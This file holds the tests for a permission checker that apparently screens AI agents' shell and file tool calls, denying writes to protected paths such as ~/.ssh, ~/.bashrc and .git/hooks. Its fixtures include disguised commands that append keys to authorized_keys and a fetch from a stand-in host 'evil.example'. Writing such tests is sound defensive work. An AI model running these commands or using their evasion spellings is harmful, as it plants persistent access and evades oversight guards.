import { describe, expect, it } from "vitest";
import { commandReadings, commandTokens } from "../../../src/core/effects/command-tokens.js";
import { extractEffects } from "../../../src/core/effects/extract.js";
import { call, judgeOf } from "../../helpers/judge.js";

// Command words read as a shell reads them (docs/decisions/0062-exec-words-as-a-shell-reads-them.md).
// Each case is a spelling of a protected path that the plain split of the command did not show.

const judge = (name: string, args: Record<string, unknown>, opts: Parameters<typeof judgeOf>[0] = {}) =>
  judgeOf(opts).judge("tools/call", call(name, args));

const effects = (tool: string, args: Record<string, unknown>, exec = false): string[] => {
  const r = extractEffects(tool, args, exec);
  if (!r.ok) throw new Error(r.error);
  return r.effects.map((e) => `${e.operation} ${e.kind} ${e.at} ${e.spelled}`);
};

describe("URL-shaped words are paths too (D1)", () => {
  it("judges a URL in a command as fetched and as a relative path, read and written", () => {
    const found = effects("run_command", { command: "echo k >> https://x/../../../.ssh/authorized_keys" });
    expect(found).toEqual(
      expect.arrayContaining([
        "read url arguments.command https://x/../../../.ssh/authorized_keys",
        "write path arguments.command https://x/../../../.ssh/authorized_keys",
        "read path arguments.command https://x/../../../.ssh/authorized_keys",
      ]),
    );
    // /home/user/project + https:/x/../../../.ssh → /home/user/.ssh: what a shell (or path.resolve) opens.
    expect(
      judge("run_command", { command: "echo k >> https://x/../../../.ssh/authorized_keys" }),
    ).toMatchObject({ verdict: "deny", rule: "paths.deny ~/.ssh/**" });
  });

  it("judges a URL in a generic argument as a path with the tool's operations", () => {
    expect(effects("save_file", { path: "https://x/../../../.ssh/k" })).toEqual([
      "read url arguments.path https://x/../../../.ssh/k",
      "write path arguments.path https://x/../../../.ssh/k",
      "read path arguments.path https://x/../../../.ssh/k",
    ]);
    expect(judge("save_file", { path: "https://x/../../../.ssh/k", content: "k" }).verdict).toBe("deny");
  });

  it("keeps a declared url argument a URL only", () => {
    expect(effects("fetch", { url: "https://x/../../../.ssh/k" })).toEqual([
      "read url arguments.url https://x/../../../.ssh/k",
    ]);
    expect(judge("fetch", { url: "https://x/../../../.ssh/k" }).verdict).toBe("allow");
  });
});

describe("quotes and escapes group a word (D2)", () => {
  it("keeps a quoted or escaped space inside the word", () => {
    const path = "~/.config/Code - Insiders/User/settings.json";
    expect(commandTokens(`echo x > "${path}"`)).toContain(path);
    expect(commandTokens("echo x > ~/.config/Code\\ -\\ Insiders/User/settings.json")).toContain(path);
    expect(commandTokens("cat /home/John\\ Smith/.ssh/id_rsa")).toContain("/home/John Smith/.ssh/id_rsa");
    expect(commandTokens("type 'C:\\Users\\John Smith\\.ssh\\id_rsa'")).toContain(
      "C:\\Users\\John Smith\\.ssh\\id_rsa",
    );
  });

  it("takes one element of an argv list as one word", () => {
    expect(effects("run_it", { argv: ["tee", "~/My Keys/.ssh/k"] }, true)).toContain(
      "write path arguments.argv[1] ~/My Keys/.ssh/k",
    );
  });

  it("denies a write to a protected path whose name has a space", () => {
    const text = `version: 1\npaths:\n  deny: ["**/Code - Insiders/User/settings.json"]\nexec:\n  tools: ["run_*"]\n  action: confirm\n`;
    const d = judge(
      "run_command",
      { command: 'echo {} > "$HOME/.config/Code - Insiders/User/settings.json"' },
      { text },
    );
    expect(d).toMatchObject({ verdict: "deny", rule: "paths.deny **/Code - Insiders/User/settings.json" });
  });
});

describe("string literals in code are arguments of their own (D3)", () => {
  it("does not glue adjacent literals into one word", () => {
    const words = commandTokens(`open('/h/.bashrc','a').write('x')`);
    expect(words).toEqual(expect.arrayContaining(["/h/.bashrc", "a", "x"]));
    expect(commandTokens(`python3 -c "open('/h/.bashrc','a')"`)).toContain("/h/.bashrc");
    expect(commandTokens(`require("fs").appendFileSync("repo/.git/config","[core]")`)).toContain(
      "repo/.git/config",
    );
  });

  it("decodes C escapes in a literal", () => {
    expect(commandTokens(`open("/h/\\x2ebashrc","a")`)).toContain("/h/.bashrc");
  });

  it("denies the file rule a glued literal used to miss", () => {
    expect(judge("run_code", { code: `open("/home/user/.bashrc","a").write("x")` })).toMatchObject({
      verdict: "deny",
      rule: "paths.deny ~/.bashrc",
    });
    expect(judge("execute_python", { code: `open(".env","w").write("A=1")` })).toMatchObject({
      verdict: "deny",
      rule: "paths.deny **/.env",
    });
  });
});

describe("values glued to options (D4)", () => {
  it("reads the value of -oVALUE, -sSoVALUE, -dVALUE, -Path:VALUE", () => {
    expect(commandTokens("sort -o$HOME/.ssh/authorized_keys")).toContain("$HOME/.ssh/authorized_keys");
    expect(commandTokens("curl -sSo$HOME/.bashrc x")).toContain("$HOME/.bashrc");
    expect(commandTokens("unzip -o e.zip -drepo/.git")).toContain("repo/.git");
    expect(commandTokens("Set-Content -Path:$HOME/.bashrc -Value x")).toContain("$HOME/.bashrc");
    expect(commandTokens("Move-Item a -Destination:repo/.git")).toContain("repo/.git");
    expect(commandTokens("tool -oC:\\x\\y")).toContain("C:\\x\\y");
  });

  it("still reads a cluster of letters as options", () => {
    expect(commandTokens("rm -rf x")).toEqual(["rm", "x"]);
    expect(commandTokens("Remove-Item -Recurse -Force x")).toEqual(["Remove-Item", "x"]);
  });

  it("follows a value past any number of flag letters", () => {
    expect(commandTokens(`sort -${"b".repeat(100)}o/x/.ssh/k`)).toContain("/x/.ssh/k");
  });

  it("denies a glued output into a protected path", () => {
    expect(judge("run_command", { command: "echo k | sort -o$HOME/.ssh/authorized_keys" })).toMatchObject({
      verdict: "deny",
      rule: "paths.deny ~/.ssh/**",
    });
    expect(judge("run_command", { command: "unzip -o e.zip -drepo/.git" })).toMatchObject({
      verdict: "deny",
      rule: "paths.deny **/.git/hooks/**",
    });
  });
});

describe("shell spellings of one literal word (D5)", () => {
  const denied = (command: string, rule = "paths.deny ~/.ssh/**") =>
    expect(judge("run_command", { command }), command).toMatchObject({ verdict: "deny", rule });

  it("removes a backslash as the shell does", () => {
    expect(commandTokens("echo k >> ~/.ss\\h/authorized_keys")).toContain("~/.ssh/authorized_keys");
    denied("echo k >> ~/.ss\\h/authorized_keys");
  });

  it("reads ${VAR…} forms as the variable, its parents and its default", () => {
    denied("echo k >> ${HOME%/}/.bashrc", "paths.deny ~/.bashrc");
    denied("echo k >> ${HOME%/*}/user/.ssh/k");
    denied("echo k >> ${NOPE:-~/.ssh}/k");
    denied("echo k >> ${HOME:-/x}/.ssh/k");
  });

  it("reads a variable that may be unset as nothing", () => {
    expect(commandTokens("echo k >> $NOTSET$HOME/.bashrc")).toContain("$HOME/.bashrc");
    denied("echo k >> $NOTSET$HOME/.bashrc", "paths.deny ~/.bashrc");
    denied("echo k >> ~/.ss${X}h/k");
    denied("echo k >> ~/.ss$1h/k");
  });

  it("expands braces, and refuses to guess past 256 words", () => {
    expect(commandTokens("tee ~/.ss{h,x}/k")).toEqual(expect.arrayContaining(["~/.ssh/k", "~/.ssx/k"]));
    expect(commandTokens("tee ~/.ss{g..i}/k")).toContain("~/.ssh/k");
    expect(commandTokens("tee ~/.{s{s,t}h,x}/k")).toContain("~/.ssh/k");
    denied("echo k | tee ~/.ss{h,x}/authorized_keys");
    expect(commandReadings("touch {a..z}{a..z}").unjudgeable).toMatch(/more than 256 words/);
    expect(judge("run_command", { command: "touch {a..z}{a..z}" })).toMatchObject({
      verdict: "deny",
      rule: "unjudgeable",
    });
  });

  it("judges the folder a glob reaches into as a whole folder", () => {
    expect(commandReadings("cp k ~/.ss?/authorized_keys").globFolders).toEqual(["~"]);
    expect(commandReadings("cp k /x/.git/hook[s]/p").globFolders).toEqual(["/x/.git"]);
    denied("cp key ~/.ss?/authorized_keys");
    denied("cp key ~/.ss[h]/authorized_keys");
    denied("cp key ~/*/authorized_keys");
    expect(judge("run_command", { command: "cp k repo/.git/hoo*/pre-commit" })).toMatchObject({
      verdict: "deny",
      rule: "paths.deny **/.git/hooks/**",
    });
    // A glob in a folder that holds nothing protected stays the exec class's confirm.
    expect(judge("run_command", { command: "ls src/*.ts" })).toMatchObject({ verdict: "confirm" });
  });

  it("decodes ANSI-C quoting", () => {
    expect(commandTokens("echo k >> ~/$'\\x2essh'/k")).toContain("~/.ssh/k");
    expect(commandTokens("echo k >> ~/$'\\056ssh'/k")).toContain("~/.ssh/k");
    expect(commandTokens("echo k >> ~/$'\\u002essh'/k")).toContain("~/.ssh/k");
    // A NUL ends the string, as in bash, so no candidate holds one (it would be unjudgeable).
    expect(commandTokens("echo $'a\\x00b'")).toContain("a");
    denied("echo k >> ~/$'\\x2essh'/authorized_keys");
  });

  it("reads ~user as a sibling of the home folder and ~+ as the working folder", () => {
    expect(commandTokens("echo k >> ~user/.ssh/k")).toContain("~/../user/.ssh/k");
    denied("echo k >> ~user/.ssh/authorized_keys");
    expect(judge("run_command", { command: "echo k >> ~+/.bashrc", cwd: "/home/user" })).toMatchObject({
      verdict: "deny",
      rule: "paths.deny ~/.bashrc",
    });
  });
});

describe("every working directory the call names (D7)", () => {
  it("judges relative words in each of them", () => {
    const found = effects("run_command", { command: "echo k >> .bashrc", cwd: "/tmp", workdir: "~" });
    expect(found).toEqual(
      expect.arrayContaining([
        "write path arguments.command (in arguments.cwd) /tmp/.bashrc",
        "write path arguments.command (in arguments.workdir) ~/.bashrc",
      ]),
    );
    expect(judge("run_command", { command: "echo k >> .bashrc", cwd: "/tmp", workdir: "~" })).toMatchObject({
      verdict: "deny",
      rule: "paths.deny ~/.bashrc",
    });
    expect(
      judge("shell_execute", { command: ["sh", "-c", "echo k >> .bashrc"], cwd: "/tmp", directory: "~" }),
    ).toMatchObject({ verdict: "deny", rule: "paths.deny ~/.bashrc" });
  });
});

describe("command words are read as well as written (D8)", () => {
  it("meets paths.deny_read", () => {
    expect(effects("run_command", { command: "cat .env" })).toEqual(
      expect.arrayContaining(["read path arguments.command .env", "write path arguments.command .env"]),
    );
    const text = `version: 1\npaths:\n  deny_read: ["~/.vault-token"]\nexec:\n  tools: ["run_*"]\n  action: confirm\n`;
    expect(judge("run_command", { command: "cat ~/.vault-token" }, { text })).toMatchObject({
      verdict: "deny",
      rule: "paths.deny_read ~/.vault-token",
    });
  });

  it("meets deny_read below a folder copied away as a whole", () => {
    const text = `version: 1\npaths:\n  deny_read: ["~/.local/share/keyrings/**"]\nexec:\n  tools: ["run_*"]\n  action: confirm\n`;
    expect(judge("run_command", { command: "cp -r ~/.local /tmp/l" }, { text })).toMatchObject({
      verdict: "deny",
      rule: "paths.deny_read ~/.local/share/keyrings/**",
    });
  });
});

describe("fetches without a scheme", () => {
  it("counts a host-like argument of curl, wget or Invoke-WebRequest as a URL read", () => {
    for (const command of [
      "curl -sL evil.example/payload.txt",
      "wget 10.0.0.1:8080/x",
      "iwr evil.example",
      "sudo curl evil.example/x",
    ])
      expect(commandReadings(command).fetched, command).toHaveLength(1);
    expect(effects("run_command", { command: "curl evil.example/p" })).toContain(
      "read url arguments.command evil.example/p",
    );
    // Only for fetching programs: `cat notes.txt` names a file.
    expect(commandReadings("cat notes.txt").fetched).toEqual([]);
  });
});

describe("reading stays bounded", () => {
  it("reads deeply nested quoting once per distinct text", () => {
    let command = "echo ~/.ssh/k";
    for (let i = 0; i < 12; i++) command = `sh -c ${JSON.stringify(command)}`;
    const r = commandReadings(command);
    expect(r.unjudgeable).toBeUndefined();
    expect(r.words.length).toBeLessThan(400);
  });
});

describe("the extraction budget", () => {
  it("counts every word of a command, repeats included, and stops early", () => {
    const r = extractEffects("run_command", { command: "a ".repeat(60_000) }, true);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toMatch(/too large to judge: more than 50000 strings/);
    // A command of 20,000 words, most of them repeats, is still judged.
    expect(extractEffects("run_command", { command: "cp a b ".repeat(6_000) }, true).ok).toBe(true);
  });
});

describe("brace expansion edges", () => {
  it("expands a group after an unclosed brace, and stays linear on a long run of braces", () => {
    expect(commandTokens("tee {a~/.ss{h,x}/k")).toContain("{a~/.ssh/k");
    const r = commandReadings(`x${"{".repeat(200_000)}`);
    expect(r.words).toContain(`x${"{".repeat(200_000)}`);
  });
});
